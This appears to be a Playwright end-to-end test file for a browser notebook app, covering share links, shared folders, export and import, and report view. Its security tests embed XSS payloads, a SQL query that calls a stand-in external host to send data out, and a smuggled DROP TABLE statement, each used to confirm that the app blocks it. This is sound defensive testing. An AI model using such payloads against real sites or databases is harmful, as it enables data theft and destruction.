import { cp, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { encodeShareFragment } from '../../src/lib/notebook/shareLink';
import type { Cell, Notebook } from '../../src/lib/notebook/model';
import { cell, copyLink, openApp, openOverview, watchErrors, watchForeignRequests, expect, test } from './helpers';
import { serveFolder } from './staticServer';

/** A cell as written in a test: any kind, without its id. */
type DraftCell = { [K in Cell['kind']]: Omit<Extract<Cell, { kind: K }>, 'id'> }[Cell['kind']];

function notebookOf(title: string, cells: DraftCell[]): Notebook {
  return { id: 'shared', title, createdAt: 0, updatedAt: 0, version: 0, cells: cells.map((c, i) => ({ ...c, id: `c${i}` }) as Cell) };
}

/** The review dialog a shared notebook opens behind. */
function review(page: Page) {
  return page.getByRole('dialog', { name: 'Open a shared notebook?' });
}

test('a copied link opens the same notebook in a fresh browser, after showing what it runs', async ({ page, context, browser }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await openOverview(page);
  const link = await copyLink(page);
  await expect(page.getByRole('status', { name: 'Share notice' })).toContainText('Link copied');
  expect(link).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#nb=[A-Za-z0-9_-]+$/);
  console.log(`overview notebook link: ${link.length} characters`);

  const fresh = await browser.newContext();
  const other = await fresh.newPage();
  const foreign = watchForeignRequests(other);
  await openApp(other, link);
  const dialog = review(other);
  await expect(dialog).toContainText('Retention overview');
  await expect(dialog.getByRole('list', { name: 'SQL the notebook runs' })).toContainText('crr');
  // Nothing has run yet: no notebook is open behind the dialog.
  await expect(other.getByRole('article')).toHaveCount(0);
  await other.screenshot({ path: 'test-results/share-review.png' });
  await dialog.getByRole('button', { name: 'Open and run' }).click();
  await expect(cell(other, 'crr').getByLabel('Explanation')).toContainText('CRR for', { timeout: 60_000 });
  // The address no longer carries the notebook; the copy is saved and survives a reload.
  expect(new URL(other.url()).hash).toBe('');
  await other.reload();
  await expect(cell(other, 'crr').getByLabel('Explanation')).toContainText('CRR for', { timeout: 60_000 });
  await expect(review(other)).toBeHidden();
  expect(foreign).toEqual([]);
  await fresh.close();
});

test('a team folder (app in a sub-folder, a notebook and CSVs) opens from one ?notebook=&data= link', async ({ browser }) => {
  const root = await mkdtemp(join(tmpdir(), 'recur-host-'));
  const folder = join(root, 'team', 'recur');
  await cp('dist', folder, { recursive: true });
  await cp('test/fixtures/shared-folder', folder, { recursive: true });
  const { server, origin } = await serveFolder(root);
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    const foreign = watchForeignRequests(page);
    const errors = watchErrors(page);
    await openApp(page, `${origin}/team/recur/?notebook=q3.recur.md&data=orders-q4.csv`);
    const dialog = review(page);
    await expect(dialog).toContainText('Team retention Q3');
    const files = dialog.getByRole('list', { name: 'Data files the link loads' });
    await expect(files).toContainText('/team/recur/orders-q4.csv');
    await expect(files).toContainText('/team/recur/orders-q3.csv');
    await dialog.getByRole('button', { name: 'Open and run' }).click();
    const table = cell(page, 'totals').getByRole('region', { name: 'totals table' });
    // Six orders from four customers across both files, and not the sample data that was loaded before.
    await expect(table.getByRole('row').nth(1)).toContainText('4');
    await expect(table.getByRole('row').nth(1)).toContainText('6');
    await expect(table.getByRole('row').nth(1)).toContainText('420');
    await expect(page.getByRole('list', { name: 'Loaded data sets' })).not.toContainText('sample-orders.csv');
    await page.screenshot({ path: 'test-results/shared-folder.png' });
    expect(foreign).toEqual([]);
    expect(errors).toEqual([]);
  } finally {
    await context.close();
    server.close();
    await rm(root, { recursive: true, force: true });
  }
});

test('a link to files outside the app folder is refused with a message, and the app carries on', async ({ page }) => {
  const foreign = watchForeignRequests(page);
  await openApp(page, '/?notebook=https://example.com/evil.recur.md');
  await expect(page.getByRole('alert').filter({ hasText: 'This link could not be opened' })).toContainText('absolute URL');
  await expect(cell(page, 'crr').getByLabel('Explanation')).toContainText('CRR for', { timeout: 60_000 });
  expect(foreign).toEqual([]);
});

test('SQL in a shared notebook cannot reach the network: a clear message, and no request leaves the machine', async ({ page }) => {
  const foreign = watchForeignRequests(page);
  const fragment = await encodeShareFragment(
    notebookOf('Phone home', [{ kind: 'sql', name: 'stolen', source: "SELECT * FROM read_csv('https://example.com/collect.csv?who=me')" }]),
  );
  await openApp(page, `/${fragment}`);
  await review(page).getByRole('button', { name: 'Open and run' }).click();
  await expect(cell(page, 'stolen').getByRole('alert')).toContainText('cannot read URLs');
  await expect(cell(page, 'stolen').getByRole('alert')).toContainText('https://example.com/collect.csv');
  expect(foreign).toEqual([]);
});

/** Drops a small order file (three orders) and loads it, waiting for its report. */
async function loadThreeOrders(page: Page): Promise<void> {
  await page.getByLabel('Choose files to load').setInputFiles({
    name: 'after.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from('order_id,customer_id,ordered_at,revenue\nZ1,zoe,2024-03-01,11\nZ2,zoe,2024-04-01,22\nZ3,yul,2024-04-02,33\n'),
  });
  await page.getByRole('dialog', { name: /after\.csv/ }).getByRole('button', { name: /Load after\.csv/ }).click();
  await expect(page.getByRole('region', { name: /Data-quality report for after\.csv/ }).getByTestId('orders-loaded')).toHaveText('3');
}

test('SQL in a shared notebook cannot write: refused on screen, and the data, the overview and the next load are untouched', async ({ page }) => {
  const errors = watchErrors(page);
  await openOverview(page);
  const crr = cell(page, 'crr').getByLabel('Explanation');
  const repeatRate = cell(page, 'repeat_rate').getByRole('region', { name: 'repeat_rate table' });
  const [crrBefore, repeatBefore] = [await crr.textContent(), await repeatRate.textContent()];
  expect(crrBefore).toContain('CRR for');
  expect(repeatBefore).toContain('repeat_rate');

  const fragment = await encodeShareFragment(
    notebookOf('Tidy up', [
      { kind: 'sql', name: 'tidy', source: 'CREATE OR REPLACE TABLE load_files AS SELECT 1' },
      { kind: 'sql', name: 'sneaky', source: 'SELECT count(*) AS n FROM orders; DROP TABLE orders' },
    ]),
  );
  await page.goto('about:blank');
  await openApp(page, `/${fragment}`);
  await review(page).getByRole('button', { name: 'Open and run' }).click();
  const refusal = cell(page, 'tidy').getByRole('alert');
  await expect(refusal).toContainText('notebook SQL can only read the data');
  await expect(refusal).toContainText('This is a CREATE OR REPLACE TABLE statement on "load_files";');
  await expect(cell(page, 'sneaky').getByRole('alert')).toContainText('This holds 2 statements: SELECT, DROP TABLE on "orders";');
  await page.screenshot({ path: 'test-results/share-write-refused.png' });

  await page.getByRole('navigation', { name: 'Notebooks' }).getByRole('button', { name: 'Retention overview', exact: true }).click();
  await expect(crr).toHaveText(crrBefore!, { timeout: 60_000 });
  await expect(repeatRate).toHaveText(repeatBefore!);

  await loadThreeOrders(page);
  await expect(page.getByRole('list', { name: 'Loaded data sets' })).toContainText('after.csv');
  await expect(page.getByRole('alert').filter({ hasText: /Binder Error|rebuilt/ })).toHaveCount(0);
  expect(errors).toEqual([]);
});

test('data tables found damaged are rebuilt from the loaded files when the next file loads', async ({ page }) => {
  await openOverview(page);
  // A dataset of the user's (a file dropped on the demo starts one), so the next load adds to it.
  await page.getByLabel('Choose files to load').setInputFiles({
    name: 'before.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from('order_id,customer_id,ordered_at,revenue,channel\nB1,bea,2024-01-01,5,web\nB2,bea,2024-02-01,6,web\n'),
  });
  await page.getByRole('dialog', { name: /before\.csv/ }).getByRole('button', { name: /Load before\.csv/ }).click();
  await expect(page.getByRole('region', { name: /Data-quality report for before\.csv/ }).getByTestId('orders-loaded')).toHaveText('2');
  const count = (sql: string) => page.evaluate(async (q) => Number(window.__recur!.rows((await window.__recur!.engine.query(q)).ipc)[0].n), sql);
  const beforeOrders = await count("SELECT count(*) AS n FROM orders WHERE source_file = 'before.csv'");
  expect(beforeOrders).toBe(2);
  // What a notebook could do before its SQL was read-only, or a bug might still do.
  await page.evaluate(() => window.__recur!.engine.exec('CREATE OR REPLACE TABLE load_files AS SELECT 1 AS x'));

  await loadThreeOrders(page);
  await expect(page.getByRole('alert').filter({ hasText: 'rebuilt' })).toContainText("Recur's data tables had been changed (load_files)");
  const loaded = page.getByRole('list', { name: 'Loaded data sets' });
  for (const name of ['before.csv', 'after.csv']) await expect(loaded).toContainText(name);
  expect(await count("SELECT count(*) AS n FROM orders WHERE source_file = 'before.csv'")).toBe(beforeOrders);
  expect(await count('SELECT count(*) AS n FROM load_files')).toBe(2);
  await expect(cell(page, 'crr').getByLabel('Explanation')).toContainText('CRR for');
  await page.screenshot({ path: 'test-results/tables-rebuilt.png' });
});

test('XSS payloads in a shared notebook stay text', async ({ page }) => {
  const foreign = watchForeignRequests(page);
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const payload = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
  const fragment = await encodeShareFragment(
    notebookOf(`Quarterly ${payload}`, [
      { kind: 'markdown', source: `# Hello\n\n${payload}\n\n[click](javascript:window.__pwned=3) <a href="javascript:alert(1)">x</a> <iframe src="https://example.com"></iframe>` },
      { kind: 'params', params: [{ name: 'who', label: payload, type: 'text', value: payload }] },
      { kind: 'sql', name: 'echo', source: `SELECT '${payload.replaceAll("'", "''")}' AS html, $who AS who` },
    ]),
  );
  await openApp(page, `/${fragment}`);
  const dialog = review(page);
  await expect(dialog).toContainText('Quarterly <img src=x');
  await dialog.getByRole('button', { name: 'Open and run' }).click();
  await expect(cell(page, 'echo').getByRole('region', { name: 'echo table' })).toContainText('<script>window.__pwned=2</script>');
  await expect(page.getByLabel('Notebook title')).toHaveValue(/Quarterly <img/);
  // The javascript: links lost their targets; the text stays.
  await expect(page.locator('div.markdown')).toContainText('click x');
  expect(await page.locator('div.markdown a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).not.toContainEqual(expect.stringMatching(/^javascript:/i));
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await page.locator('iframe, div.markdown script, div.markdown img[onerror]').count()).toBe(0);
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
});

test('the report view hides the code and keeps the results; it can be linked to', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await openOverview(page);
  await page.getByRole('button', { name: 'Report view' }).click();
  await expect(page.getByRole('button', { name: 'Report view' })).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByRole('toolbar', { name: 'Notebook tools' })).toBeHidden();
  await expect(page.getByRole('button', { name: 'Run', exact: true }).first()).toBeHidden();
  await expect(page.getByRole('complementary')).toBeHidden();
  await expect(cell(page, 'crr').getByRole('img').first()).toBeVisible();
  await expect(cell(page, 'crr').getByLabel('Explanation')).toBeVisible();
  await page.screenshot({ path: 'test-results/report-view.png', fullPage: false });

  const link = await copyLink(page, /&view=report$/);
  const other = await context.newPage();
  await openApp(other, link);
  await review(other).getByRole('button', { name: 'Open and run' }).click();
  await expect(other.getByRole('button', { name: 'Report view' })).toHaveAttribute('aria-pressed', 'true');
  await expect(other.getByRole('toolbar', { name: 'Notebook tools' })).toBeHidden();
});

test('an exported .recur.md file imports back to the same notebook', async ({ page }) => {
  await openOverview(page);
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe('retention-overview.recur.md');
  const text = await readFile(await file.path(), 'utf8');
  expect(text).toMatch(/^---\nformat: recur-notebook\/1\ntitle: Retention overview\ndata:\n  - sample-orders.csv\n/);
  await page.getByLabel('Choose a notebook file to open').setInputFiles({ name: file.suggestedFilename(), mimeType: 'text/markdown', buffer: Buffer.from(text) });
  const dialog = review(page);
  await expect(dialog).toContainText('retention-overview.recur.md');
  await expect(dialog.getByRole('list', { name: 'Data files the notebook expects' })).toContainText('sample-orders.csv');
  await dialog.getByRole('button', { name: 'Open without running' }).click();
  await expect(page.getByRole('navigation', { name: 'Notebooks' })).toContainText('Retention overview');
  await expect(cell(page, 'crr')).toBeVisible();
  await expect(cell(page, 'crr').getByLabel('Explanation')).toHaveCount(0);
});

test('when the browser refuses the clipboard, the link is shown to copy by hand', async ({ page }) => {
  await page.addInitScript(() => {
    navigator.clipboard.writeText = () => Promise.reject(new DOMException('Document is not focused.', 'NotAllowedError'));
  });
  await openOverview(page);
  await page.getByRole('button', { name: 'Copy link' }).click();
  const shown = page.getByRole('status', { name: 'Link to copy' });
  await expect(shown).toContainText('(Document is not focused). Copy the link from here');
  const field = shown.getByLabel('Link to this notebook');
  await expect(field).toBeFocused();
  expect(await field.inputValue()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#nb=[A-Za-z0-9_-]+$/);
  await expect(page.getByRole('status', { name: 'Share notice' })).toHaveCount(0);
  await shown.screenshot({ path: 'test-results/share-link-by-hand.png' });
  await shown.getByRole('button', { name: 'Done' }).click();
  await expect(shown).toHaveCount(0);
});
